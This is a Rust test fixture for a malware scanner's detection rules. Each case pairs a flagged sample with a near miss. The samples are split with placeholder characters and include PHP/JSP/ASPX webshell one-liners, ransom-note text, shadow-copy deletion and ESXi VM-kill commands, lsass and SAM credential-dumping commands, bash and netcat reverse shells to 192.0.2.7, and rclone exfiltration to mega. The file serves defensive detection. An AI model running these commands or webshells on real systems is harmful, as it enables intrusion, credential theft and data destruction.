//! What each embedded rule finds, and what it leaves alone.
//!
//! The texts stand here in pieces (a `|` is taken out, `~` becomes a zero byte) so that no scanner, this one
//! included, finds anything in the repository itself.

/// A rule, a text on which it fires, and one that is near and on which it stays silent.
pub(crate) struct Case {
    pub(crate) rule: &'static str,
    finds: &'static str,
    leaves: &'static str,
}

impl Case {
    /// The content on which the rule fires.
    pub(crate) fn finds(&self) -> Vec<u8> {
        whole(self.finds)
    }

    /// The near miss.
    pub(crate) fn leaves(&self) -> Vec<u8> {
        whole(self.leaves)
    }
}

fn whole(pieces: &str) -> Vec<u8> {
    pieces.replace('|', "").replace('¦', "|").replace('~', "\0").into_bytes()
}

const fn case(rule: &'static str, finds: &'static str, leaves: &'static str) -> Case {
    Case { rule, finds, leaves }
}

#[rustfmt::skip]
pub(crate) const CASES: &[Case] = &[
    case("veldkit_self_test",
        "veldkit self| test: 7d0f1c52 rules are al|ive",
        "veldkit self test: rules are alive"),
    case("eicar_test_file",
        r"X5O!P%@A|P[4\PZX54(P^)7CC)7}$EIC|AR-STANDARD-ANTIV|IRUS-TEST-FILE!$H+H*",
        r"The test file begins with X5O!P%@A|P[4\PZX54(P^)7CC)7}$EIC|AR-STANDARD"),
    case("webshell_php_eval_request",
        "<?php @ev|al(base64_decode($_PO|ST['z0'])); ?>",
        "<?php $answer = evaluate($_POST['z0']); echo 'eval is not called';"),
    case("webshell_php_exec_request",
        "<?php echo shell_ex|ec($_RE|QUEST['cmd']);",
        "<?php echo shell_exec('uptime'); print($_REQUEST['cmd']); $pdo->exec($sql);"),
    case("webshell_php_callback_request",
        "<?php $_G|ET['f']($_PO|ST['a']);",
        "<?php call_user_func($handlers[$_GET['f']], $_POST['a']);"),
    case("webshell_php_packed_eval",
        "<?php ev|al(gzinf|late(base64_dec|ode('c3lz')));",
        "<?php $page = gzinflate(base64_decode($cached)); echo $page;"),
    case("webshell_php_encrypted_body",
        "<?php $k='e45e329f|eb5d925b'; $p=file_get_contents('php://|input'); $p=openssl_dec|rypt($p,'AES128',$k); ev|al($p);",
        "<?php $p = json_decode(file_get_contents('php://input')); $s = openssl_decrypt($p->s, 'AES128', $key);"),
    case("webshell_php_godzilla",
        "function enc|ode($D,$K){for($i=0;$i<strlen($D);$i++){$c=$K[$i|+1&15];$D[$i]=$D[$i]^$c;}return $D;}",
        "function encode($D, $Key) { for ($i = 0; $i < strlen($D); $i++) { $D[$i] = $D[$i] ^ $Key[$i]; } }"),
    case("webshell_jsp_exec_request",
        "<% Runtime.getRun|time().exec(request.getPara|meter(\"c\")); %>",
        "<% String c = request.getParameter(\"c\"); Runtime.getRuntime().exec(\"/usr/bin/uptime\"); %>"),
    case("webshell_jsp_class_loading",
        "<%@page import=\"java.util.*\"%><%! class U ext|ends ClassLoader{ Class g(byte []b){return super.defi|neClass(b,0,b.length);}}%>\
         <% Cipher c=Cipher.getIns|tance(\"AES\"); new U().g(c.doFinal(Base64.dec(request.getRea|der().readLine()))); %>",
        "<%@page import=\"java.util.*\"%><% Cipher c=Cipher.getInstance(\"AES\"); String s = request.getReader().readLine(); %>"),
    case("webshell_asp_eval_request",
        "<%@ Page Language=\"Jscript\"%><%ev|al(Request.It|em[\"p\"],\"uns|afe\");%>",
        "<% Response.Write(Server.HTMLEncode(Request.Form(\"name\"))) ' never eval input, it is unsafe %>"),
    case("webshell_aspx_class_loading",
        "<%@ Page Language=\"C#\"%><% byte[] c=Request.Binary|Read(Request.ContentLength);System.Reflection.Assembly.Lo|ad(\
         new RijndaelMan|aged().CreateDec|ryptor(k,k).TransformFinalBlock(c,0,c.Length)).CreateInst|ance(\"U\").Equals(this);%>",
        "<%@ Page Language=\"C#\"%><% var a = System.Reflection.Assembly.Load(\"Contoso.Forms\"); Response.Write(Request[\"q\"]); %>"),
    case("webshell_aspx_command",
        "<%@ Page Language=\"C#\"%><% var p = new ProcessSt|artInfo(\"cmd.e|xe\", \"/c \" + Request[\"c\"]); %>",
        "<%@ Page Language=\"C#\"%><% var p = new ProcessStartInfo(\"report.exe\", \"/daily\"); %>"),
    case("webshell_regeorg",
        "<% out.print(\"Geo|rg says, 'All seems fi|ne'\"); %>",
        "<% out.print(\"Georg says that all seems fine\"); String c = request.getHeader(\"X-CMD\"); %>"),
    case("webshell_neoregeorg",
        "<?php $i = blv_dec|ode($d); $s = fsockop|en($h, $p); echo blv_enc|ode($r);",
        "<?php $i = json_decode($d); $s = fsockopen($h, $p); echo json_encode($r);"),
    case("ransom_note_generic",
        "All your files have been encr|ypted! Install Tor Brow|ser and write to us. Do not ren|ame encrypted files. \
         Do not use third party soft|ware. Your data will be publ|ished.",
        "What to do when your files have been encrypted: call the CERT. Criminals use Tor Browser. Keep the note."),
    case("ransom_note_lockbit",
        "LockBit 3|.0 the world's fast|est ransom|ware since 2019",
        "Advisory: affiliates of LockBit 3.0 steal data. 'Your data are stolen' says the note."),
    case("ransom_note_akira",
        "Hi friends, Whatever who you| are and what your title is if you're rea|ding this it means",
        "Akira: the internal infrastructure of your company is at risk, whatever your title is"),
    case("ransom_note_black_basta",
        "ATTENTION! Your network has been bre|ached and all data was encr|ypted. Your company id for lo|g in: 123",
        "A letter may say: your network has been breached and all data was copied. Log in with your company id."),
    case("ransom_note_play",
        "PLAY news por|tal, tor network li|nks: see below",
        "PLAY: the news portal of the theatre, network links below"),
    case("ransom_note_alphv",
        ">> Important files on your network was ENCR|YPTED. >> Sensitive data on your system was DOWNL|OADED.",
        ">> Important files on your network were moved. Sensitive data on your system was deleted."),
    case("ransom_note_qilin",
        "-- Qil|in  Your network/sys|tem was encr|ypted.",
        "A qilin is a mythical animal. -- Qilin, the dictionary"),
    case("ransom_note_rhysida",
        "Critical Breach Detec|ted\nImmediate Response Requ|ired",
        "Critical breach detected in the dike; response is required"),
    case("ransom_esxi_commands",
        "for i in $(ls /vmfs/vol|umes); do esxcli vm pro|cess kill -t=force -w=$w; vim-cmd vmsvc/snap|shot.removeall $i; done",
        "vim-cmd vmsvc/snapshot.get 1; ls /vmfs/volumes; esxcli vm process list"),
    case("ransom_recovery_removed",
        "vssadmin.exe del|ete shadows /all /quiet & wmic shadow|copy delete & bcdedit /set {default} recovery|enabled no",
        "vssadmin list shadows & wmic shadowcopy list & bcdedit /set {default} recoveryenabled yes"),
    case("credential_mimikatz",
        "priv|ilege::debug sekurl|sa::logonpasswords exit",
        "privilege::debug appears in one log line, without more"),
    case("credential_mimikatz_output",
        "Authentication Id| : 0 ; 996 (00000000:000003e4)\r\n  * NT|LM     : 0123456789abcdef0123456789abcdef\r\n",
        "Authentication Id : unknown\r\n  * NTLM     : disabled\r\n"),
    case("credential_lsass_comsvcs",
        r"rundll32.exe C:\windows\System32\comsv|cs.dll, Mini|Dump 624 C:\temp\l.dmp full",
        r"regsvr32.exe C:\windows\System32\comsvcs.dll registers it"),
    case("credential_lsass_dump",
        "MD|MP ~~ l~s~a~s~r~v~.~d~|l~l~ l~s~a~s~s~.~e~x|~e~",
        "MDMP ~~ w~i~n~w~o~r~d~.~e~x~e~ l~s~a~s~s~.~e~x|~e~"),
    case("credential_secretsdump",
        "[*] Dumping local SAM has|hes (uid:rid:lmhash:nth|ash)",
        "[*] Dumping local hashes (sha256:path)"),
    case("credential_hash_list",
        "Administrator:500:aad3b435b514|04eeaad3b435b51404ee:0123456789abcdef0123456789abcdef::|:\n\
         Guest:501:aad3b435b514|04eeaad3b435b51404ee:0123456789abcdef0123456789abcdef::|:\n",
        "Administrator:500:aad3b435b514|04eeaad3b435b51404ee:0123456789abcdef0123456789abcdef::|:\n"),
    case("credential_rubeus",
        "[*] Action: Kerb|eroasting",
        "[*] Action: Ask TGT, said a log that names no tool"),
    case("credential_ntds_copy",
        r#"ntdsu|til.exe "ac i ntds" "if|m" "create full c:\temp\x" q q"#,
        r#"ntdsutil.exe "activate instance ntds" files integrity"#),
    case("credential_hive_save",
        r"reg.exe sa|ve hklm\s|am c:\temp\1",
        r"reg.exe save hklm\software\contoso backup.hiv & reg query hklm\sam"),
    case("credential_lazagne",
        "¦      The LaZagne Pro|ject      ¦\n¦      ! BANG BA|NG !      ¦",
        "The LaZagne Project is described in a report"),
    case("remote_reverse_shell_bash",
        "bash -i >|& /dev/tc|p/192.0.2.7/4444 0>&1",
        "echo test > /dev/tcp/192.0.2.7/80; bash -i"),
    case("remote_reverse_shell_script",
        "rm /tmp/f;mkfifo /tm|p/f;cat /tmp/f¦/bin/sh -|i 2>&1¦nc 192.0.2.7 4444 >/tmp/f",
        "mkfifo /tmp/f; cat /tmp/f ¦ gzip -c > log.gz & nc -l 4444"),
    case("tunnel_ngrok_config",
        "version: 2\nauthto|ken: 2abcDEFghiJKLmnoPQRstuVWXyz_0123456789abcdefghij\ntunnels:\n",
        "version: 2\nauthtoken: changeme\ntunnels:\n"),
    case("tunnel_ngrok_program",
        "\x7fELF ~~ go.ngr|ok.com/cmd/ngrok/main.go",
        "see go.ngrok.com/cmd/ngrok in the manual"),
    case("tunnel_chisel_program",
        "\x7fELF ~~ github.com/jpil|lora/chisel/client chis|el-v3",
        "\x7fELF ~~ github.com/jpillora/backoff chisel"),
    case("tunnel_frp_program",
        "MZ ~~ github.com/fated|ier/frp/client/service.go",
        "MZ ~~ github.com/fatedier/golib/client"),
    case("tunnel_frp_config",
        "[common]\nserver_ad|dr = 192.0.2.7\nserver_port = 7000\n[rdp]\nremote_po|rt = 6000\n",
        "[common]\nserver_name = 192.0.2.7\nremote_port = 6000\n"),
    case("exfiltration_rclone_config",
        "[x]\ntype = me|ga\nus|er = a@example.org\npass = abc\n",
        "[x]\ntype = local\nuser = a@example.org\npass = abc\n"),
    case("exfiltration_rclone_command",
        r"rclo|ne.exe copy \\srv\data mega:out --trans|fers 16",
        r"rclone.exe copy C:\data D:\backup --progress"),
    case("remote_anydesk_unattended",
        r"AnyDe|sk.exe --install C:\x --start-with-win --sil|ent",
        r"AnyDesk.exe --get-id"),
    case("remote_anydesk_program",
        "MZ ~~ AnyDe|sk Software GmbH --start-|with-win",
        "AnyDesk Software GmbH --start-with-win, in a licence list"),
    case("remote_screenconnect_client",
        "ScreenCon|nect.ClientService ?e=Acc|ess&y=Guest&h=relay.example.org&p=8041&s=1",
        "ScreenConnect.ClientService ?e=Access&y=Host"),
];
